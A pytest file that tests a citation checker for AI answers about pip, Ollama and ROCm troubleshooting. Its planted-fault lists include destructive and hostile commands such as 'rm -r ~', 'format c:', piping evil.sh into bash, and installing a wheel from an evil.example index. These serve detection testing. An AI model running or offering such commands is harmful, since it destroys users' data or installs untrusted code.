"""What a model writes is held against the cited statements; planted faults and sound sentences over real entries."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.read import BUILT_IN, read_entry
from rag import prompt
from rag.answer import Answer, Card, Citation, Hints, Question
from rag.cite import Checker, split


def citation(n, quote, section="Causes"):
    return Citation(n, "e", "t", (), (), section, quote, 0, 1, "", 0, ())


EVIDENCE = [
    citation(1, "`ollama ps` shows `100% CPU` when the model does not fit on the card.[^faq]"),
    citation(2, "Shorten the context: set `OLLAMA_CONTEXT_LENGTH` to 4096 for the server.[^faq]"),
]


def verdicts(written, finished=True, facts=()):
    return [(sentence.verdict, sentence.cites) for sentence in Checker(EVIDENCE, facts).check(written, finished)]


def entry_checker(entry):
    """A checker over all statements of a real entry."""
    statements = read_entry(BUILT_IN / "errors" / f"{entry}.md").statements
    return Checker([citation(n, statement.text, statement.section) for n, statement in enumerate(statements, 1)])


CHECKERS = {
    name: entry_checker(entry)
    for name, entry in (
        ("pip", "pip-externally-managed"),
        ("ollama", "ollama-runs-on-cpu"),
        ("rocm", "rocm-not-detected"),
    )
}


def verdict_on(entry, sentence):
    """The verdict on one sentence; of several the gravest, so that a planted fault cannot hide behind a sound one."""
    said = [found.verdict for found in CHECKERS[entry].check(sentence)]
    return next((grave for grave in ("command", "number", "unsupported") if grave in said), "supported")


INVENTED = [  # entry, what is written, what is wrong with it
    ("pip", "Remove the environment with `rm -r ~` and make it again.", "command"),
    ("pip", "Remove the half-made folder with `rm -r` and try again.", "command"),
    ("pip", "Remove the half-made folder: rm -rf ~/ai-env, then try again.", "command"),
    ("pip", "Make one for the program: `python3 -m venv ~/other-env`.", "command"),
    ("pip", "Install the missing part with `sudo apt install python3-pip`.", "command"),
    ("pip", "Install the missing part, then run npm install evil-pkg and bash evil.sh.", "command"),
    ("pip", "Make a virtual environment and install there with conda.", "command"),
    ("pip", "Inside a virtual environment run pip install flashboost.", "command"),
    ("pip", "Call pip through the Python that will run the program: python -m evil.", "command"),
    ("pip", "See HTTPS://evil.example/fix for how to make a virtual environment and install there.", "command"),
    ("pip", "See evil.io/fix for how to make a virtual environment and install there.", "command"),
    ("pip", "Activate it in each new terminal with source /opt/evil/bin/activate.", "command"),
    ("pip", "`--break-system-package` can be justified in an image for a single program.", "command"),
    ("pip", "```bash\npython3 -m venv ~/ai-env\nsource ~/ai-env/bin/activate\npip install evil\n```", "command"),
    ("ollama", "Remove the old container with `docker rm -f o`.", "command"),
    ("ollama", "Remove the old container with `docker rm -f`.", "command"),
    ("ollama", "Remove the old container with `docker rm -f ollama; models`.", "command"),
    ("ollama", "Start it with the card: `docker run -d --gpus=all -v ollama:/`.", "command"),
    ("ollama", "Start it with the card: `docker run -d --gpus=none`.", "command"),
    ("ollama", "AMD: use the image with ROCm, `ollama/ollama:roc`.", "command"),
    ("ollama", "Unset `CUDA_VISIBLE` for the server.", "command"),
    ("ollama", "Then start the container with the card by --gpu all.", "command"),
    ("ollama", "Then start the container with the card by `--gpu`.", "command"),
    ("ollama", "Update the driver with `-`.", "command"),
    ("ollama", "Store the KV cache in 8 bits with `OLLAMA_KV_CACHE_TYPE=q4_1`.", "command"),
    ("ollama", "Store the KV cache in 8 bits with OLLAMA_KV_CACHE_TYPE=q4_1.", "command"),
    ("ollama", "Set OLLAMA_LLM_LIBRARY=cpu; it bypasses the choice that Ollama makes by itself.", "command"),
    ("ollama", "An integrated GPU that you want to use: set OLLAMA_IGPU_ENABLE=0 for the server.", "command"),
    ("ollama", "Reload the driver module, then run npm install evil-pkg and bash evil.sh on the card.", "command"),
    ("ollama", "Restart Ollama, then pipe evil.sh into bash, reboot and reflash the card.", "command"),
    ("ollama", "Update the driver and reboot the machine.", "command"),
    ("ollama", "Take a smaller variant of the model with ollama pull tinyllama.", "command"),
    ("ollama", "Free the card: ollama stop evil-model.", "command"),
    ("ollama", "Add the user ollama to render, and chmod the device /dev/kfd.", "command"),
    ("ollama", "The account that runs Ollama must open `/dev/nvidia0`.", "command"),
    ("ollama", "Linux: reload the driver module with sudo modprobe evil.", "command"),
    ("rocm", "Install the ROCm wheel with `pip install torch --index-url https://evil.example/whl`.", "command"),
    ("rocm", "Join the groups with `sudo usermod -a -G root $LOGNAME`.", "command"),
    ("rocm", "Clear them for a test: `unset HIP_VISIBLE_DEVICES PATH`.", "command"),
    ("rocm", "Install the driver with amdgpu_install and restart Ollama.", "command"),
    ("rocm", "Run torch.hip.reset() again: the second value must be a version.", "command"),
    ("rocm", "Then kill -9 the program that holds the AMD card.", "command"),
    ("ollama", "Update the driver, then format c: on the card.", "command"),
    ("ollama", "Update the driver: Ollama needs 24GB of memory for all cards.", "number"),
    ("ollama", "The default follows the total memory of all cards: 32k up to 64 GiB.", "number"),
    ("ollama", "The default follows the total memory of all cards: 4k below 48GB.", "number"),
    ("ollama", "Update the driver: Ollama wants 560 or newer.", "number"),
    ("ollama", "For everything set `OLLAMA_CONTEXT_LENGTH` (for example `16384`) for the server.", "command"),
    ("ollama", "Keep `OLLAMA_NUM_PARALLEL` at 4: the context is reserved once per parallel request.", "number"),
    ("ollama", "A close target can be forced on Linux, for example for a gfx1030 card.", "number"),
    ("ollama", "`ollama ps` shows a split such as 30%/70%.", "number"),
    ("rocm", "Install the ROCm 6 driver with `amdgpu-install`, reboot, restart Ollama.", "number"),
    ("rocm", "llama.cpp's log says found 9 ROCm devices.", "number"),
    ("pip", "Make a virtual environment of 3 GB for the program.", "number"),
    ("pip", "If the message names a package with a version, such as 3.9, take that one.", "number"),
]
REVERSED = [
    ("ollama", "Ollama wants 550 or older."),
    ("ollama", "Do not unset `OLLAMA_LLM_LIBRARY`; it bypasses the choice that Ollama makes by itself."),
    ("ollama", "Set `OLLAMA_LLM_LIBRARY`; it bypasses the choice that Ollama makes by itself."),
    ("ollama", "Cards below 6.2 are not supported."),
    ("ollama", "Cards below 5.0 are supported."),
    ("ollama", "Cards above 5.0 are not supported."),
    ("ollama", "Reinstalling Ollama helps when the model is larger than the card."),
    ("ollama", "Never restart Ollama on Linux after suspend and resume."),
    ("pip", "Inside a virtual environment pip does look at all."),
    ("pip", "`--break-system-packages` on your daily system helps."),
    ("rocm", "In Python the device stays `cuda`; `rocm` and `hip` are valid device names."),
    ("rocm", 'Writing device="rocm" in PyTorch helps.'),
]
SOUND = [
    ("ollama", "The model was placed in system memory, so the processor does the work."),
    ("ollama", "When the model is larger than the card, ollama puts a part of it in system memory."),
    ("ollama", "Run `ollama ps` to see where the loaded model lies."),
    ("ollama", "`ollama ps` shows `100% CPU` for a model larger than the card."),
    ("ollama", "Look at SIZE and CONTEXT in the same table."),
    ("ollama", "You can shorten the context for a chat with `/set parameter num_ctx 4096`."),
    ("ollama", "Set `OLLAMA_CONTEXT_LENGTH` to `8192` for the server and start it again."),
    ("ollama", "If you set a variable in your shell while Ollama runs as a service, it does not get there."),
    ("ollama", "Take a smaller variant of the model and look at ollama ps again."),
    ("ollama", "1. Take a more strongly quantised variant of the model."),
    ("ollama", "Store the KV cache in 8 bits with `OLLAMA_KV_CACHE_TYPE=q8_0`, which takes about half the memory."),
    ("ollama", "`ollama stop MODEL` unloads a loaded model."),
    ("ollama", "Keep OLLAMA_NUM_PARALLEL at 1, since the context is reserved once per parallel request [7]."),
    ("ollama", "Run `nvidia-smi`, and if it fails, mend the driver first."),
    ("ollama", "Ollama wants driver 550 or newer."),
    ("ollama", "Ollama wants 570 or newer for cards of compute capability 5.0 to 6.2."),
    ("ollama", "Cards below 5.0 are not supported."),
    ("ollama", "On Linux, after suspend and resume, reload the driver module and restart Ollama."),
    ("ollama", "```bash\nsudo rmmod nvidia_uvm && sudo modprobe nvidia_uvm\nsudo systemctl restart ollama\n```"),
    ("ollama", "The account that runs Ollama must be in the group `render` or `video` to open `/dev/kfd`."),
    ("ollama", "Set `OLLAMA_IGPU_ENABLE=1` for the server if you want to use an integrated GPU."),
    ("ollama", "Remove the old container with `docker rm -f ollama`."),
    ("ollama", "Docker Desktop on a Mac passes no GPU to containers, so run Ollama natively there."),
    ("ollama", "Unset `OLLAMA_LLM_LIBRARY`, because it bypasses the choice that Ollama makes by itself."),
    ("ollama", "Reinstalling Ollama does not help when the model is larger than the card."),
    ("ollama", "Ollama knows no variable `OLLAMA_NUM_CTX`."),
    ("ollama", "While it answers, ollama ps shows `100% GPU` in the column PROCESSOR."),
    ("ollama", "An invalid number such as -1 forces the processor."),
    ("pip", "The Python of the operating system belongs to its package manager."),
    ("pip", "Make a virtual environment and install there."),
    ("pip", "Linux distributions such as Debian and Ubuntu mark their Python with a file `EXTERNALLY-MANAGED`."),
    ("pip", "Inside a virtual environment pip does not look for it at all."),
    ("pip", "`False` at the end means that there is no virtual environment."),
    ("pip", "```bash\npython3 -m venv ~/ai-env\nsource ~/ai-env/bin/activate\n```"),
    ("pip", "Activate it in each new terminal, or call `~/ai-env/bin/python` by its path."),
    ("pip", "Call pip through the Python that will run the program, without `sudo`."),
    ("pip", "With uv, use `uv venv` and then `uv pip install transformers`."),
    ("pip", "Install the missing part with `sudo apt install python3-venv`."),
    ("pip", "Remove the half-made folder with `rm -r ~/ai-env` and try again."),
    ("pip", "`pipx install huggingface_hub` makes an environment of its own."),
    ("pip", "`pip install --user` does not help, because pip looks for the mark there as well."),
    ("rocm", "The program finds no AMD GPU and falls back to the processor."),
    ("rocm", "Remove the wrong wheel and install a ROCm wheel into the same environment."),
    ("rocm", "Run the check again: the second value must be a version."),
    ("rocm", "In Python the device stays `cuda`."),
    ("rocm", "Install the headers of the running kernel, which the driver package needs in order to build."),
    ("rocm", "Install or repair the driver with `amdgpu-install`, then reboot."),
    ("rocm", "Join the groups with `sudo usermod -a -G render,video $LOGNAME`, then log out and in again."),
    ("rocm", "Install the ROCm 7 driver with amdgpu-install, reboot and restart Ollama."),
    ("rocm", "Clear them for a test with `unset HIP_VISIBLE_DEVICES ROCR_VISIBLE_DEVICES CUDA_VISIBLE_DEVICES`."),
    ("rocm", "`rocminfo` lists the card as an agent with a gfx name."),
]


def test_every_invented_command_and_number_is_caught():
    missed = [(text, verdict_on(entry, text)) for entry, text, wrong in INVENTED if verdict_on(entry, text) != wrong]
    assert missed == []


def test_a_sentence_that_turns_its_source_round_is_not_supported():
    assert [text for entry, text in REVERSED if verdict_on(entry, text) == "supported"] == []


def test_of_sound_sentences_at_most_one_in_twenty_is_marked():
    marked = [(text, verdict_on(entry, text)) for entry, text in SOUND if verdict_on(entry, text) != "supported"]
    assert len(marked) <= len(SOUND) / 20, marked


def test_no_sound_sentence_is_taken_for_an_unknown_command():
    assert [text for entry, text in SOUND if verdict_on(entry, text) == "command"] == []


@pytest.mark.parametrize(
    "plain_words",
    [
        "When the model is larger than the memory, ollama runs on the CPU.",
        "You can set the context length lower.",
        "If you set the variable in your shell, it is not seen.",
        "You can kill the process that holds the card.",
        "That will make the model fit, and docker starts as before.",
    ],
)
def test_words_that_are_also_programs_are_no_commands_in_a_sentence(plain_words):
    assert "command" not in [verdict for verdict, _ in verdicts(plain_words)]


def test_a_command_that_destroys_is_known_only_whole():
    checker = Checker([citation(1, "Remove the old container: `docker rm -f ollama --volumes`, then start it again.")])
    for code, verdict in (("docker rm -f ollama --volumes", "supported"), ("docker rm -f ollama", "command")):
        assert [s.verdict for s in checker.check(f"Remove the old container with `{code}`.")] == [verdict]
        assert [s.verdict for s in checker.check(f"Remove the old container: {code}")][-1] != (
            "supported" if verdict == "command" else "command"
        )


def test_a_line_of_a_block_or_a_part_of_it_in_whole_tokens_is_known():
    checker = Checker([citation(1, "Start it:\n   ```bash\n   docker run --gpus all ubuntu nvidia-smi\n   ```")])
    assert checker.check("Start it with `docker run --gpus all`.")[0].verdict == "supported"
    assert checker.check("Start it with `docker run --gpus al`.")[0].verdict == "command"
    assert checker.check("Start it with `docker run ubuntu`.")[0].verdict == "command"


def test_numbers_must_stand_in_the_statement_that_supports_the_sentence():
    assert verdicts("Shorten the context for the server to 100% CPU.") == [("number", ())]
    assert verdicts("`ollama ps` shows it when 4096 models do not fit on the card.") == [("number", ())]


def test_units_written_apart_or_together_are_the_same_and_others_are_not():
    checker = Checker([citation(1, "The model needs 24 GiB of memory on the card, or 8,192 tokens fewer.")])
    said = {size: checker.check(f"The model needs {size} of memory on the card.")[0].verdict for size in
            ("24 GiB", "24GiB", "24", "24GB", "48GiB", "8192")}  # fmt: skip
    assert said == {
        "24 GiB": "supported", "24GiB": "supported", "24": "supported", "24GB": "number", "48GiB": "number",
        "8192": "supported",
    }  # fmt: skip


def test_a_sentence_gets_the_number_of_the_statement_that_says_it():
    assert verdicts("The model does not fit on the card. Set OLLAMA_CONTEXT_LENGTH to 4096.") == [
        ("supported", (1,)),
        ("supported", (2,)),
    ]


def test_the_models_own_marks_count_for_nothing():
    assert verdicts("The model does not fit on the card [2].") == [("supported", (1,))]
    assert verdicts("The model does not fit on the card 【99】.") == [("supported", (1,))]
    assert verdicts("Buy a bigger house [1].") == [("unsupported", ())]


def test_footnotes_are_marks_and_round_brackets_and_code_are_not():
    checker = Checker(EVIDENCE)
    shown = checker.check("The layers (32) do not fit [^faq] on GPU (1) [1, 2]. Read `x[0]` [^ctx-2].")
    assert [sentence.text for sentence in shown] == ["The layers (32) do not fit on GPU (1).", "Read `x[0]`."]


def test_the_numbers_of_a_list_are_no_sentences():
    written = "1. The model does not fit on the card.\n 2. Set OLLAMA_CONTEXT_LENGTH to 4096.\n3."
    assert verdicts(written) == [("supported", (1,)), ("supported", (2,))]


def test_no_sentence_ends_within_code():
    assert split("It says `Too old. Update it.` then. Update it.") == [
        "It says `Too old. Update it.` then.",
        "Update it.",
    ]


@pytest.mark.parametrize(
    "invented",
    [
        "Run `ollama serve --turbo-vram` when the model does not fit on the card.",
        "Start it with --turbo-vram so the model does not fit on the card.",
        "Set OLLAMA_TURBO_VRAM when the model does not fit on the card.",
        "See https://evil.example/fix when the model does not fit on the card.",
        "sudo rm -rf ~/.ollama when the model does not fit on the card",
        "```bash\nollama turbo --all\n```",
        "If the model does not fit on the card, pip install ollama-turbo",
    ],
)
def test_a_command_that_stands_in_no_source_is_caught(invented):
    assert [sentence.verdict for sentence in Checker(EVIDENCE).check(invented)] == ["command"]


def test_a_changed_number_is_caught():
    assert verdicts("Set OLLAMA_CONTEXT_LENGTH to 8192.") == [("number", ())]
    assert verdicts("`ollama ps` shows `50% CPU` when the model does not fit.")[0][0] in ("command", "number")


def test_numbers_of_their_own_log_are_known():
    assert verdicts("The model does not fit on the card of 12 GiB.", facts=["Asked for 1 GiB of 12 GiB."]) == [
        ("supported", (1,))
    ]


def test_what_is_not_finished_is_pending():
    assert verdicts("The model does not fit on the card. Set OLLAMA_CONT", finished=False)[-1][0] == "pending"


def test_verdicts_are_kept_while_the_text_grows_and_are_those_of_the_whole_text():
    written = "The model does not fit on the card. Set OLLAMA_CONTEXT_LENGTH to 8192.\n```bash\nollama ps\n```\nEnd."
    checker = Checker(EVIDENCE)
    earlier = checker.check(written[:60], finished=False)
    for end in range(60, len(written)):
        assert checker.check(written[:end], finished=False)[0] is earlier[0]
    assert checker.check(written) == Checker(EVIDENCE).check(written)


def test_thoughts_are_never_cited():
    assert verdicts("<think>The model does not fit on the card.</think>") == []
    assert verdicts("<think>The model does not fit on the") == []
    assert verdicts("The model does not fit on the card. So?</think>Set OLLAMA_CONTEXT_LENGTH to 4096.") == [
        ("supported", (2,))
    ]


def test_a_code_block_is_one_piece():
    assert split("Do this:\n```bash\na. b\nc\n```\nThen rest.") == ["Do this:", "```bash\na. b\nc\n```", "Then rest."]


def test_the_model_reads_the_evidence_without_footnotes():
    question = Question("ollama slow", ("ollama slow",), (), "ollama slow", Hints(), False)
    answer = Answer("answer", 1.0, Card("t", (), ()), tuple(EVIDENCE), ())
    assert "[^" not in prompt.messages(question, answer)[-1]["content"]


@settings(deadline=None)
@given(st.text(alphabet="ab []()【】0123456789.`-\n<>think/OLLAMA_CPU%^", max_size=200), st.booleans())
def test_no_text_produces_a_citation_that_was_not_given(written, finished):
    for sentence in Checker(EVIDENCE).check(written, finished):
        assert set(sentence.cites) <= {1, 2}
        assert not sentence.cites or sentence.verdict == "supported"


@settings(deadline=None)
@given(st.text(alphabet="rm -f`~/ollamps\n", max_size=60))
def test_code_of_a_supported_sentence_stands_in_the_sources(noise):
    for sentence in Checker(EVIDENCE).check(f"The model does not fit on the card, {noise}"):
        assert sentence.verdict != "supported" or "rm -" not in sentence.text
